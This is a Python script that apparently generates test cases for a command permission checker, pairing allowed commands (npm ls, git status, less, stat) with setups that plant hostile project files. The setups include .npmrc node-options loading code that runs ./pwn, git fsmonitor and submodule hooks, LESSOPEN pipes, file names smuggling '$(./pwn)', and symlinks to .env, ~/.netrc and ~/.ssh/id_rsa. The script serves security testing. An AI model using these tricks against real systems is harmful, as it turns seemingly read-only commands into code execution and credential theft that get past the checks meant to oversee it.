#!/usr/bin/env python3
"""Round 9, batch 2: the programs batch 1 found allowed (npm ls, git status/log, less, stat, readlink, ls, node, python3) with project files they read."""
rows = []
def add(cls, line, setup=None):
    rows.append((cls, ("setup:" + setup + " ;;; " + line) if setup else line))
NPM = ["npm ls", "npm ls --all", "npm ls --json", "cd src && npm ls", "npm ls --depth=0"]
for name, setup in [
    ("npmrc-logsdir", "printf 'logs-dir=@M@\\n' > .npmrc"),
    ("npmrc-cache", "printf 'cache=@M@/c\\n' > .npmrc"),
    ("npmrc-userconfig", "printf 'userconfig=@M@/u\\nglobalconfig=@M@/g\\n' > .npmrc"),
    ("npmrc-prefix", "printf 'prefix=@M@/p\\n' > .npmrc"),
    ("npmrc-nodeopts", "printf 'node-options=--require ./x.js\\n' > .npmrc; printf 'require(\"child_process\").execSync(\"./pwn\")\\n' > x.js"),
    ("npmrc-sub", "printf 'logs-dir=@M@\\n' > src/.npmrc; printf '{\"name\":\"s\"}' > src/package.json"),
    ("npmrc-loglevel", "printf 'loglevel=silly\\n_authToken=CANARY_NPMTOK_21\\n//r/:_authToken=CANARY_NPMTOK_22\\n' > .npmrc"),
    ("npmrc-envtoken", "printf 'loglevel=silly\\nx=${GITHUB_TOKEN}\\n' > .npmrc"),
    ("pkg-workspaces", "printf '{\"name\":\"a\",\"workspaces\":[\"../outside\",\"vendor/keys\"]}' > package.json; printf '{\"name\":\"o\"}' > @M@/package.json"),
    ("pkg-link", "printf '{\"name\":\"a\",\"dependencies\":{\"o\":\"file:../outside\"}}' > package.json; printf '{\"name\":\"o\",\"version\":\"1.0.0\"}' > @M@/package.json; mkdir -p node_modules; ln -s @M@ node_modules/o"),
    ("pkg-lock-env", "ln -sf .env package-lock.json; printf '{\"name\":\"a\"}' > package.json"),
    ("pkg-is-env", "ln -sf .env package.json"),
    ("pkg-netrc", "ln -sf ~/.netrc package.json"),
]:
    for l in NPM[:3]:
        add("npm-" + name, l, setup)
GIT = ["git status", "git log -1", "git status --short", "git log -1 --stat"]
for name, setup in [
    ("mailmap", "printf 'A <a@b> CANARY_x <a@b>\\n' > .mailmap; ln -sf .env .mailmap"),
    ("gitmodules", "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ./\\n\\tupdate = !./pwn\\n' > .gitmodules"),
    ("subgit-file", "mkdir -p sub; printf 'gitdir: @M@/g\\n' > sub/.git; git init -q --bare @M@/g; printf '[core]\\n\\tfsmonitor = ./pwn\\n\\tworktree=@P@/sub\\n' >> @M@/g/config"),
    ("gitdir-file-env", "printf '.env\\n' > .git/info/exclude"),
    ("git-objects-alternates", "mkdir -p .git/objects/info; echo @H@/.ssh > .git/objects/info/alternates"),
    ("index-link", "git update-index --add --cacheinfo 120000,$(printf ../.ssh/id_rsa | git hash-object -w --stdin),l; true"),
    ("attr-eol", "printf '* text eol=crlf\\n' > .gitattributes; ln -sf .env notes2.txt"),
    ("commondir", "echo @M@/cd > .git/commondir; mkdir -p @M@/cd; git init -q --bare @M@/cd; printf '[core]\\n\\tfsmonitor = ./pwn\\n' >> @M@/cd/config"),
]:
    for l in GIT:
        add("git-" + name, l, setup)
LESS = ["less notes.txt", "less -F notes.txt", "less README.md"]
for name, setup in [
    ("lesspipe-name", "cp notes.txt '$(./pwn).txt'"),
    ("lesspipe-tar", "tar -cf n.tar .env; cp n.tar notes.txt"),
    ("notes-link", "rm notes.txt; ln -s .env notes.txt"),
    ("notes-link-home", "rm notes.txt; ln -s ~/.netrc notes.txt"),
    ("lesskey-env", "printf '#env\\nLESSOPEN=|./pwn %%s\\n' > ~/.lesskey"),
]:
    for l in LESS[:2]:
        add("less-" + name, l, setup)
add("less-lesspipe-name", "less '$(./pwn).txt'", "cp notes.txt '$(./pwn).txt'")
add("less-lesspipe-name", "less 'a;./pwn;.txt'", "cp notes.txt 'a;./pwn;.txt'")
add("less-lesspipe-tar", "less n.tar", "tar -cf n.tar .env")
add("less-lesspipe-tar", "less n.tar.gz", "tar -czf n.tar.gz .env")
add("less-lesspipe-zip", "less n.zip", "zip -q n.zip .env")
add("less-lesspipe-gz", "less n.gz", "gzip -c .env > n.gz")
add("less-lesspipe-gz", "less n.gz", "gzip -c ~/.ssh/id_rsa > n.gz")
add("cat-archive", "zcat n.gz", "gzip -c .env > n.gz")
add("cat-archive", "tar -tvf n.tar", "tar -cf n.tar .env")
add("cat-archive", "tar -xOf n.tar", "tar -cf n.tar .env")
add("cat-archive", "unzip -p n.zip", "zip -q n.zip .env")
add("cat-archive", "git show HEAD:n.txt", "cp .env n.txt; git add n.txt; git -c user.email=a@b -c user.name=a commit -qm n; rm n.txt")
add("cat-archive", "git log -p -1", "cp .env n.txt; git add n.txt; git -c user.email=a@b -c user.name=a commit -qm n; rm n.txt")
for l in ["stat --printf=%N vendor/notes.txt", "readlink vendor/keys", "ls -la vendor/keys/", "ls vendor/keys/..", "realpath vendor/keys/../.netrc",
          "ls -la ~", "ls -la ~/.ssh", "stat -c %s ~/.netrc", "stat -L --printf=%s vendor/notes.txt", "stat --printf='%n %N' ~/.ssh/id_rsa",
          "ls -l --dereference vendor/keys/", "readlink -e vendor/keys/id_rsa", "node --version", "node -v", "node --v8-options | head -1",
          "python3 --version", "python3 -V", "python3 -VV", "npm --version", "npm -v", "npm help ls", "npm config list", "npm config get userconfig",
          "npm view . name", "npm explain x", "npm outdated", "npm doctor", "npm audit", "npm pack --dry-run", "npm query '*'"]:
    add("allowed-progs", l)
add("allowed-progs", "npm config list", "printf '//r/:_authToken=CANARY_NPMTOK_23\\n' > ~/.npmrc")
add("allowed-progs", "npm config list --json", "printf '//r/:_authToken=CANARY_NPMTOK_23\\n' > ~/.npmrc")
add("allowed-progs", "npm config get //r/:_authToken", "printf '//r/:_authToken=CANARY_NPMTOK_23\\n' > ~/.npmrc")
add("allowed-progs", "npm config list", "printf '//r/:_authToken=CANARY_NPMTOK_23\\n' > .npmrc")
add("allowed-progs", "npm ls", "printf 'include=${GITHUB_TOKEN}\\n' > .npmrc")
import sys
with open(sys.argv[1], "w") as f:
    for c, l in rows:
        f.write(c + "\t" + l + "\n")
print(len(rows))
